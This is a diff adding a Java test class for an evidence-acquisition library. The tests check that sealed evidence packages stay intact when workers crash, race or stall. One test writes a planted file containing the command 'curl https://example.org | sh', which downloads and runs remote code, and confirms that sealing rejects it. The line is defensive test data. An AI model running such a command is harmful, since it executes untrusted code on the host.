@@ -1,0 +1,198 @@
+package org.ephemera.acquire;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Path;
+import java.time.Clock;
+import java.time.Duration;
+import java.time.Instant;
+import java.time.ZoneId;
+import java.time.ZoneOffset;
+import java.util.List;
+import java.util.Map;
+import java.util.Optional;
+import org.ephemera.bag.DirectoryPackage;
+import org.ephemera.bag.Layout;
+import org.ephemera.bag.RuntimeRecord;
+import org.ephemera.collect.CollectionListener;
+import org.ephemera.collect.Deadline;
+import org.ephemera.collect.EvidenceSource;
+import org.ephemera.collect.Workers;
+import org.ephemera.evidence.Artifact;
+import org.ephemera.evidence.PackageId;
+import org.ephemera.evidence.Volatility;
+import org.ephemera.seal.PemSigner;
+import org.ephemera.store.Blob;
+import org.ephemera.store.DirectoryEvidenceStore;
+import org.ephemera.store.EvidenceStore;
+import org.ephemera.store.StoreException;
+import org.ephemera.testing.InterceptedStore;
+import org.ephemera.testing.PagedSource;
+import org.ephemera.testing.Requests;
+import org.ephemera.verify.PackageVerifier;
+import org.ephemera.verify.Verdict;
+import org.ephemera.verify.VerificationReport;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.Timeout;
+import org.junit.jupiter.api.io.TempDir;
+
+/** Workers that die, overtake each other or sleep at the worst of moments: the package is whole all the same. */
+@Timeout(60)
+class CollisionTest {
+    private static final Artifact TASK = PagedSource.artifact("test.task", Volatility.V2);
+    private static final Artifact LOG = PagedSource.artifact("test.log", Volatility.V4);
+    private static final List<EvidenceSource> SOURCES =
+            List.of(new PagedSource(TASK, 1, 10, List.of(LOG)), new PagedSource(LOG, 3, 100, List.of()));
+    private static final List<Artifact> PLANNED = List.of(TASK);
+
+    @TempDir
+    Path folder;
+
+    private final TurnableClock clock = new TurnableClock();
+    private DirectoryEvidenceStore store;
+    private PemSigner signer;
+
+    @BeforeEach
+    void setUp() throws IOException {
+        store = DirectoryEvidenceStore.open(folder.resolve("evidence"));
+        Path key = folder.resolve("key.pem");
+        PemSigner.create(key);
+        signer = PemSigner.open(key);
+    }
+
+    @Test
+    void anotherAlertFinishesTheOpeningThatADeadWorkerBegan() throws Exception {
+        EvidenceStore dying = new InterceptedStore(store, key -> key.endsWith(Layout.TRIGGER), () -> {
+            throw new StoreException("killed here");
+        });
+        assertThatThrownBy(() -> worker("a", dying).open(Requests.alert("e-1", Instant.EPOCH), PLANNED))
+                .isInstanceOf(StoreException.class);
+
+        PackageId id = run(worker("b", store), "e-2");
+
+        assertIntact(id);
+    }
+
+    @Test
+    void ofTwoAlertsThatOvertakeEachOtherTheOneThatOpenedIsInside() throws Exception {
+        Acquisition second = worker("b", store);
+        EvidenceStore overtaken = new InterceptedStore(
+                store, key -> key.endsWith(Layout.OPEN), () -> second.open(Requests.alert("e-2", NOON), PLANNED));
+
+        PackageId id = run(worker("a", overtaken), "e-1");
+
+        assertIntact(id);
+    }
+
+    @Test
+    void nobodyCollectsIntoAPackageThatWasSealedMeanwhile() throws Exception {
+        Acquisition other = worker("b", store);
+        Opened opened = other.open(Requests.alert("e-1", NOON), PLANNED);
+        EvidenceStore overtaken = new InterceptedStore(store, key -> key.startsWith("work/"), () -> other.seal(opened));
+        Acquisition slow = worker("a", overtaken);
+
+        slow.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
+        slow.seal(opened);
+
+        assertIntact(opened.open().packageId());
+    }
+
+    @Test
+    void aWorkerThatSleptWhileItSealedWritesNothingMore() throws Exception {
+        Acquisition[] other = new Acquisition[1];
+        EvidenceStore sleeping = new InterceptedStore(store, key -> key.endsWith(Layout.INDEX), () -> {
+            clock.turn(Duration.ofMinutes(5));
+            other[0].seal(other[0].open(Requests.alert("e-1", NOON), PLANNED));
+        });
+        other[0] = worker("b", store);
+        Acquisition sleeper = worker("a", sleeping);
+        Opened opened = sleeper.open(Requests.alert("e-1", NOON), PLANNED);
+        sleeper.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
+
+        assertThatThrownBy(() -> sleeper.seal(opened)).hasMessageContaining("away for too long");
+
+        assertIntact(opened.open().packageId());
+    }
+
+    @Test
+    void aFileThatWasPlantedIsNotSealed() throws Exception {
+        Acquisition worker = worker("a", store);
+        Opened opened = worker.open(Requests.alert("e-1", NOON), PLANNED);
+        byte[] planted = "curl https://example.org | sh\n".getBytes(StandardCharsets.UTF_8);
+        store.create(opened.open().packageId().prefix() + Layout.VERIFY, Blob.of(planted));
+        worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
+
+        assertThatThrownBy(() -> worker.seal(opened)).hasMessageContaining("was not written by this version");
+        assertThat(folder.resolve("evidence").resolve(opened.open().packageId().prefix() + Layout.SEAL))
+                .doesNotExist();
+    }
+
+    @Test
+    void aClaimThatIsNoneHoldsNobodyUp() throws Exception {
+        Acquisition worker = worker("a", store);
+        Opened opened = worker.open(Requests.alert("e-1", NOON), PLANNED);
+        PackageId id = opened.open().packageId();
+        store.create("work/" + id + "/000001.json", Blob.of("{}".getBytes(StandardCharsets.UTF_8)));
+        store.create("work/" + id + "/zzz.json", Blob.of("{}".getBytes(StandardCharsets.UTF_8)));
+        worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
+        worker.seal(opened);
+
+        assertIntact(id);
+    }
+
+    private static final Instant NOON = Instant.parse("2026-11-25T12:05:00Z");
+
+    private PackageId run(Acquisition worker, String event) throws IOException {
+        Opened opened = worker.open(Requests.alert(event, NOON), PLANNED);
+        worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
+        worker.seal(opened);
+        return opened.open().packageId();
+    }
+
+    private void assertIntact(PackageId id) {
+        VerificationReport report = PackageVerifier.verify(
+                new DirectoryPackage(folder.resolve("evidence").resolve(id.prefix())),
+                signer.publicKey(),
+                Optional.of(id.value()));
+        assertThat(report.verdict()).as(report.toString()).isEqualTo(Verdict.INTACT);
+    }
+
+    private Acquisition worker(String name, EvidenceStore to) {
+        return new Acquisition(
+                SOURCES,
+                to,
+                signer,
+                Workers.unknown(name),
+                CollectionListener.NONE,
+                RuntimeRecord.local(Map.of()),
+                clock);
+    }
+
+    private static final class TurnableClock extends Clock {
+        private final Instant started = Clock.systemUTC().instant();
+        private volatile Instant noon = NOON;
+
+        void turn(Duration time) {
+            noon = noon.plus(time);
+        }
+
+        @Override
+        public Instant instant() {
+            return noon.plus(Duration.between(started, Clock.systemUTC().instant()));
+        }
+
+        @Override
+        public ZoneId getZone() {
+            return ZoneOffset.UTC;
+        }
+
+        @Override
+        public Clock withZone(ZoneId zone) {
+            return this;
+        }
+    }
+}
